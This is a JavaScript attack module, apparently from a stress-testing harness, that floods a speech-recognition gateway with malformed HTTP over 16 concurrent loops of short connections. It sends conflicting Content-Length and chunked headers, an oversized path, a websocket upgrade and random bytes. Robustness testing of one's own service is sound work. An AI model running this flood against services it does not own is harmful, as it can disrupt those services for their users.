// Random bytes, half requests and requests with false lengths, over many short connections.
import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

export const about = 'Random bytes and broken requests over many short connections, as fast as they are taken.';

const heads = [
  'GET / HTTP/1.1\r\n\r\n',
  'POST /v10/asr/ring/cn_8k_common/short_audio HTTP/1.1\r\nHost: a\r\nContent-Length: 10\r\nTransfer-Encoding: chunked\r\n\r\n',
  'GET /v10/asr/ring/cn_8k_common/short_stream HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n',
  `GET /${'a'.repeat(20_000)} HTTP/1.1\r\nHost: a\r\n\r\n`,
];

/** @param {import('../attack.mjs').Target} target */
export async function run({ gateway, address, signal }) {
  const { hostname, port } = new URL(gateway.http);
  let sent = 0;
  const one = async (/** @type {number} */ number) => {
    while (!signal.aborted) {
      const socket = connect({ host: hostname, port: Number(port), localAddress: address });
      socket.on('error', () => {});
      socket.resume();
      const text = heads[(sent + number) % (heads.length + 1)];
      socket.end(text ?? randomBytes(4_096));
      sent++;
      await Promise.race([once(socket, 'close').catch(() => {}), sleep(1_000)]);
      socket.destroy();
    }
  };
  await Promise.all(Array.from({ length: 16 }, (_, number) => one(number)));
  return { connections: sent };
}
